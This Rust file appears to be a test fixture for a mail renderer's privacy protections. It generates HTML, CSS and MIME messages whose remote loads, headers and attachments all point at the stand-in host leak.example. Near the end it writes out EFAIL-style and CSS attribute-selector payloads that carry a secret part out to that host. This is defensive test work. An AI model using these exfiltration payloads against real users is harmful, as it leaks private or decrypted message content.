//! Everything in a message that could make a program reach out: elements and styles of a page, and parts and fields of a
//! message. All lead to `leak.example`, or to addresses of their own.
#![allow(dead_code)]

/// Everything in a page that could make a program reach out.
pub fn leaks() -> Vec<String> {
    let url = "http://leak.example/x";
    let mut out: Vec<String> = include_str!("../compare/leaks.txt")
        .lines()
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .map(|line| line.replace("URL", url))
        .collect();
    for property in [
        "background",
        "background-image",
        "list-style",
        "list-style-image",
        "content",
        "cursor",
        "border-image",
        "mask",
        "mask-image",
        "filter",
        "clip-path",
        "shape-outside",
        "behavior",
        "-moz-binding",
        "src",
        "--x",
        "offset-path",
        "fill",
    ] {
        for value in [
            "url(URL)",
            "url('URL')",
            "URL(\"URL\")",
            "u\\72l(URL)",
            "image-set('URL' 1x)",
            "url(/**/URL)",
            "cross-fade(url(URL),red)",
        ] {
            out.push(format!("<p style=\"{property}:{}\">x</p>", value.replace("URL", url).replace('"', "&quot;")));
            out.push(format!("<style>p{{{property}:{}}}</style><p>x</p>", value.replace("URL", url)));
        }
    }
    out
}

/// Whole messages that could make a program reach out by what is around the page.
pub fn messages() -> Vec<String> {
    let head = "From: Ann <ann@leak.example>\nTo: bee@leak.example\nSubject: s\nMIME-Version: 1.0\n";
    let fields = [
        "Disposition-Notification-To: ann@leak.example",
        "Return-Receipt-To: ann@leak.example",
        "X-Confirm-Reading-To: ann@leak.example",
        "Content-Base: \"http://leak.example/\"",
        "Content-Location: http://leak.example/page.html",
        "List-Unsubscribe: <https://leak.example/u>\nList-Unsubscribe-Post: List-Unsubscribe=One-Click",
        "BIMI-Location: v=BIMI1; l=https://leak.example/logo.svg",
        "X-Image-Url: http://leak.example/face.png",
        "Face: http://leak.example/face.png",
        "DKIM-Signature: v=1; a=rsa-sha256; d=leak.example; s=mail; h=from; bh=x; b=x",
        "Autocrypt: addr=ann@leak.example; keydata=http://leak.example/key",
        "OpenPGP: url=http://leak.example/key.asc",
        "Link: <http://leak.example/x>; rel=preload",
        "Refresh: 0; url=http://leak.example/",
    ];
    let mut out: Vec<String> = fields
        .iter()
        .map(|field| {
            format!("{head}{field}\nContent-Type: text/html\n\n<p>text <img src=\"x.png\"><a href=\"y\">z</a>\n")
        })
        .collect();
    let parts = [
        "Content-Type: message/external-body; access-type=URL; URL=\"http://leak.example/x\"\n\nContent-Type: text/html\n\n",
        "Content-Type: message/external-body; access-type=anon-ftp; site=leak.example; name=x; directory=y\n\n\n",
        "Content-Type: text/x-amp-html\n\n<!doctype html><html amp4email><amp-img src=\"http://leak.example/x\"></amp-img>",
        "Content-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\nVERSION:2.0\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:1\n\
         DTSTART:20261124T100000Z\nSUMMARY:s\nURL:http://leak.example/\nATTACH:http://leak.example/x\n\
         ORGANIZER;DIR=\"ldap://leak.example\":mailto:ann@leak.example\nEND:VEVENT\nEND:VCALENDAR\n",
        "Content-Type: text/vcard\n\nBEGIN:VCARD\nVERSION:3.0\nFN:Ann\nPHOTO;VALUE=uri:http://leak.example/x\n\
         SOUND;VALUE=uri:http://leak.example/s\nURL:http://leak.example\nEND:VCARD\n",
        "Content-Type: image/svg+xml\nContent-Disposition: inline\n\n<svg xmlns=\"http://www.w3.org/2000/svg\">\
         <image href=\"http://leak.example/x\"/></svg>",
        "Content-Type: application/xhtml+xml\nContent-Disposition: inline\n\n<html xmlns=\"http://www.w3.org/1999/xhtml\">\
         <img src=\"http://leak.example/x\"/></html>",
        "Content-Type: application/pkcs7-signature; name=smime.p7s\nContent-Transfer-Encoding: base64\n\nAAAA\n",
        "Content-Type: text/enriched\n\n<x-img><param>http://leak.example/x</param></x-img>",
        "Content-Type: message/rfc822\n\nSubject: inner\nContent-Type: text/html\n\n<img src=\"http://leak.example/x\">",
        "Content-Type: text/uri-list\nContent-Disposition: inline\n\nhttp://leak.example/x\n",
        "Content-Type: application/x-shortcut; name=x.url\n\n[InternetShortcut]\nURL=http://leak.example/\nIconFile=\\\\leak.example\\x\n",
    ];
    let mixed = |parts: &[&str]| {
        let parts: String = parts.iter().map(|part| format!("--m\n{part}\n")).collect();
        format!("{head}Content-Type: multipart/mixed; boundary=m\n\n{parts}--m--\n")
    };
    let page = "Content-Type: text/html\n\n<p>text";
    out.extend(parts.iter().map(|part| mixed(&[page, part])));
    // EFAIL: what one part leaves open would take the next one along.
    let open = "Content-Type: text/html\n\n<img src=\"http://leak.example/";
    out.push(mixed(&[open, "Content-Type: text/plain\n\nsecret", "Content-Type: text/html\n\n\">"]));
    out.push(mixed(&[
        "Content-Type: text/html\n\n<form action=\"http://leak.example/\"><textarea name=x>",
        "Content-Type: text/plain\n\nsecret",
        "Content-Type: text/html\n\n</textarea></form>",
    ]));
    // StyleMail: what the style of one part does to another.
    out.push(mixed(&[
        "Content-Type: text/html\n\n<style>p{background:url(http://leak.example/x)}#s[value^=a]{list-style:url(http://leak.example/a)}",
        "Content-Type: text/html\n\n<p id=s value=abc>secret</p>",
    ]));
    let related = "Content-Type: multipart/related; boundary=r\n\n--r\nContent-Type: text/html\n\n<base href=\"http://leak.example/\">\
                   <img src=\"cid:a\"><img src=\"pic.png\">\n--r\nContent-Type: image/png\nContent-ID: <a>\n\
                   Content-Location: http://leak.example/pic.png\n\nno picture\n--r--\n";
    out.push(format!("{head}{related}"));
    out
}

/// A message with this page.
pub fn message(page: &str) -> String {
    format!("From: ann@leak.example\nSubject: s\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n{page}\n")
}
